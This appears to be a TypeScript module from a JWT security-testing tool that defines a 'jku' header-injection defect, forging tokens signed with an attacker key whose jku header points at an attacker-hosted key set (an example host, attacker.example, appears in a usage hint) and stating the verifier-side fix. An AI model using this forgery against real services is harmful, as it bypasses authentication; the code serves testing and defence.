import type { CompactJWSHeaderParameters } from 'jose';
import { usageError } from '../../errors.js';
import type { Defect } from './types.js';

export const jku: Defect = {
  info: {
    token: 'jku header pointing at an attacker JWKS (--jku-url)',
    verifier: 'reject: never fetch keys from a URL in the token',
  },
  outcome: 'unauthenticated',
  needsTrustedKey: false,
  fix: 'Never fetch keys from a jku/x5u URL in the token; use the configured JWKS URL only.',
  build: {
    async forge({ claims, alg, attackerKey, jkuUrl, kit }) {
      if (!jkuUrl) {
        throw usageError('ERR_JKU_URL_REQUIRED', 'the jku defect needs the attacker JWKS URL', {
          field: 'jkuUrl',
          hint: 'add {{jkuUrl}} https://attacker.example/jwks.json (the JSON output includes the JWKS to serve there)',
        });
      }
      const attacker = attackerKey ?? (await kit.generateAttackerKey(alg));
      const header = { alg: attacker.alg, typ: 'JWT', kid: attacker.publicJwk.kid, jku: jkuUrl };
      const signed = header as CompactJWSHeaderParameters;
      return {
        token: await kit.signCompact(signed, claims, attacker.privateKey),
        header,
        attackerJwks: { keys: [attacker.publicJwk] },
      };
    },
  },
};
